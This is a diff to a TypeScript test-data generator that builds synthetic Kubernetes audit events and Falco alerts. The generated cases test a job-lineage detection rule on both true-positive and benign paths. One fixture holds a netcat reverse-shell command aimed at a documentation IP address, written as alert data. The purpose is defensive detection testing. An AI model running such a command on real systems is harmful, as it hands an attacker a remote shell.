@@ -1224,6 +1224,130 @@ export function podOfJob(
   });
 }
 
+/** containerd's 64-hex id for a pod's container (seeded by the names: same every run). */
+export function containerIdOf(pod: string, container: string): string {
+  return createHash('sha256').update(`${pod}/${container}`).digest('hex');
+}
+
+export interface StartedPod {
+  readonly name: string;
+  readonly namespace: string;
+  readonly uid: string;
+  readonly containers: readonly { name: string; image: string; id: string }[];
+}
+
+/**
+ * The kubelet's status patch once the pod's containers run (Request level, as the usual audit
+ * policies log `pods/status`): the container ids lineage joins endpoint events on.
+ */
+export function podStatus(pod: StartedPod, node: string): Json {
+  const started = new Date(clockNow()).toISOString();
+  return audit({
+    verb: 'patch',
+    resource: 'pods',
+    subresource: 'status',
+    apiGroup: '',
+    namespace: pod.namespace,
+    name: pod.name,
+    user: { username: `system:node:${node}`, groups: ['system:nodes', 'system:authenticated'] },
+    level: 'Request',
+    userAgent: 'kubelet/v1.30.2 (linux/amd64) kubernetes/3968350',
+    sourceIP: '10.224.0.5',
+    request: {
+      metadata: { uid: pod.uid },
+      status: {
+        $setElementOrder_conditions: [{ type: 'Initialized' }, { type: 'Ready' }],
+        containerStatuses: pod.containers.map((c) => ({
+          containerID: `containerd://${c.id}`,
+          image: c.image,
+          imageID: `${c.image.split(':')[0]}@sha256:${createHash('sha256').update(c.image).digest('hex')}`,
+          name: c.name,
+          ready: true,
+          restartCount: 0,
+          started: true,
+          state: { running: { startedAt: started } },
+        })),
+        phase: 'Running',
+        podIP: '10.244.1.23',
+      },
+    },
+  });
+}
+
+/**
+ * One Falco alert (`json_output: true`) on the node: a process event in a pod's container.
+ * `podKnown: false` is Falco before its Kubernetes metadata arrives (`<NA>` pod and
+ * namespace): only `container.id` links it, through the kubelet's status patch.
+ */
+export function falcoAlert(
+  timeMs: number,
+  pod: StartedPod,
+  node: string,
+  alert: {
+    rule: string;
+    priority: string;
+    evtType: string;
+    exe: string;
+    cmdline: string;
+    parentExe: string;
+    parentCmdline: string;
+    pid: number;
+    sip?: string;
+    sport?: number;
+    podKnown?: boolean;
+    tags: string[];
+  },
+): Json {
+  const container = pod.containers[0] as StartedPod['containers'][number];
+  const [repository, tag] = container.image.split(':');
+  const podName = alert.podKnown === false ? '<NA>' : pod.name;
+  const namespace = alert.podKnown === false ? '<NA>' : pod.namespace;
+  const time = `${new Date(timeMs).toISOString().slice(0, -1)}123456Z`;
+  const connection = alert.sip ? ` connection=${alert.sip}:${alert.sport}` : '';
+  return {
+    hostname: node,
+    output: `${time.slice(11, 26)}: ${alert.priority} ${alert.rule} (user=root process=${alert.exe.split('/').pop()} command=${alert.cmdline} parent=${alert.parentExe.split('/').pop()}${connection} container_id=${container.id.slice(0, 12)} container_name=${container.name} image=${repository}:${tag} k8s_pod_name=${podName} k8s_ns_name=${namespace})`,
+    output_fields: {
+      'container.id': container.id.slice(0, 12),
+      'container.image.repository': repository,
+      'container.image.tag': tag,
+      'container.name': container.name,
+      'evt.time': timeMs * 1_000_000 + 123_456,
+      'evt.type': alert.evtType,
+      ...(alert.sip ? { 'fd.sip': alert.sip, 'fd.sport': alert.sport } : {}),
+      'k8s.ns.name': namespace,
+      'k8s.pod.name': podName,
+      'proc.cmdline': alert.cmdline,
+      'proc.exepath': alert.exe,
+      'proc.pcmdline': alert.parentCmdline,
+      'proc.pexepath': alert.parentExe,
+      'proc.pid': alert.pid,
+      'user.name': 'root',
+    },
+    priority: alert.priority,
+    rule: alert.rule,
+    source: 'syscall',
+    tags: alert.tags,
+    time,
+  };
+}
+
+/** The pod a job-controller create made (name and uid from the response), with container ids. */
+export function startedPod(podEvent: Json, containers: readonly Container[]): StartedPod {
+  const metadata = (podEvent.responseObject as Json).metadata as Json;
+  const name = String(metadata.name);
+  return {
+    name,
+    namespace: String(metadata.namespace),
+    uid: String(metadata.uid),
+    containers: containers.map((c) => ({
+      name: c.name,
+      image: c.image,
+      id: containerIdOf(name, c.name),
+    })),
+  };
+}
+
 export function jobOfCronJob(cron: CronJobOptions, minutes: number): Json {
   return createJob(
     PEOPLE.cronjobController,
@@ -1319,6 +1443,70 @@ function eksTruncated(event: Json, keep: number): Json {
 }
 
 /** Event sequences for the stateful analytics (one .jsonl per case, in time order). */
+
+const TEST_NODE = 'aks-nodepool1-12345678-vmss000001';
+const SHELL_ALERT = {
+  rule: 'Run shell untrusted',
+  priority: 'Notice',
+  evtType: 'execve',
+  exe: '/bin/sh',
+  cmdline: 'sh -c id',
+  parentExe: '/app/report',
+  parentCmdline: 'report --since=24h',
+  pid: 17,
+  tags: ['container', 'mitre_execution', 'shell'],
+};
+
+/**
+ * CW-014's process path: the benign report CronJob's scheduled Job and Pod, the kubelet's
+ * status patch with the container id, then one Falco alert in that pod.
+ */
+function reportRunWithProcess(alert: Parameters<typeof falcoAlert>[3]): Json[] {
+  const saved = clockNow(); // the other cases keep their times
+  const cron = createCronJob(PEOPLE.ci, REPORT, { userAgent: AGENTS.helm });
+  const job = jobOfCronJob(REPORT, 29401110);
+  const pod = podOfJob('daily-report-29401110', 'analytics', REPORT.containers);
+  const started = startedPod(pod, REPORT.containers);
+  const status = podStatus(started, TEST_NODE);
+  const alerted = falcoAlert(clockNow() + 5_000, started, TEST_NODE, alert);
+  setClock(saved);
+  return [cron, job, pod, status, alerted];
+}
+
+/** A shell in a Deployment's pod (owned by a ReplicaSet): not scheduled work. */
+function shellInDeploymentPod(): Json[] {
+  const saved = clockNow();
+  const metadata = {
+    name: 'web-7d9f8b6c5d-x2k4q',
+    namespace: 'shop',
+    uid: uuidOf('pod-web-7d9f8b6c5d-x2k4q'),
+    labels: { app: 'web', 'pod-template-hash': '7d9f8b6c5d' },
+    ownerReferences: [
+      { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-7d9f8b6c5d', controller: true },
+    ],
+  };
+  const containers = [{ name: 'web', image: 'registry.example.com/shop/web:4.2.1' }];
+  const pod = audit({
+    verb: 'create',
+    resource: 'pods',
+    apiGroup: '',
+    namespace: 'shop',
+    user: { username: 'system:serviceaccount:kube-system:replicaset-controller' },
+    userAgent: AGENTS.controller.replace('cronjob-controller', 'replicaset-controller'),
+    sourceIP: '10.224.0.4',
+    request: { kind: 'Pod', apiVersion: 'v1', metadata, spec: { containers } },
+    response: { kind: 'Pod', apiVersion: 'v1', metadata, spec: { containers } },
+  });
+  const started = startedPod(pod, containers);
+  const records = [
+    pod,
+    podStatus(started, TEST_NODE),
+    falcoAlert(clockNow() + 5_000, started, TEST_NODE, SHELL_ALERT),
+  ];
+  setClock(saved);
+  return records;
+}
+
 const ANALYTIC_CASES: RuleCases[] = [
   {
     rule: 'rules/analytics/cw-005-cronjob-tampering',
@@ -1530,6 +1718,14 @@ const ANALYTIC_CASES: RuleCases[] = [
   {
     rule: 'rules/analytics/cw-014-job-lineage',
     tp: {
+      // The process path: a benign chain, a shell or network tool in its pod (medium).
+      'shell-in-job-pod-named-by-falco': reportRunWithProcess(SHELL_ALERT),
+      'netcat-in-job-pod-joined-by-container-id': reportRunWithProcess({
+        ...SHELL_ALERT,
+        exe: '/usr/bin/nc',
+        cmdline: 'nc 203.0.113.9 4444 -e /bin/sh',
+        podKnown: false,
+      }),
       'reverse-shell-cronjob-spawns-pod': [
         createCronJob(PEOPLE.mallory, REVERSE_SHELL),
         jobOfCronJob(REVERSE_SHELL, 29401171),
@@ -1556,6 +1752,16 @@ const ANALYTIC_CASES: RuleCases[] = [
         podOfJob('db-backup-29401170', 'payments', BACKUP.containers),
       ],
       'pod-of-unknown-job': [podOfJob('daily-report-29401100', 'analytics', REPORT.containers)],
+      'job-pod-runs-its-own-binary': reportRunWithProcess({
+        ...SHELL_ALERT,
+        rule: 'Contact K8S API Server From Container',
+        evtType: 'connect',
+        exe: '/app/report',
+        cmdline: 'report --since=24h',
+        sip: '10.0.0.1',
+        sport: 443,
+      }),
+      'shell-in-deployment-pod': shellInDeploymentPod(),
     },
   },
   {
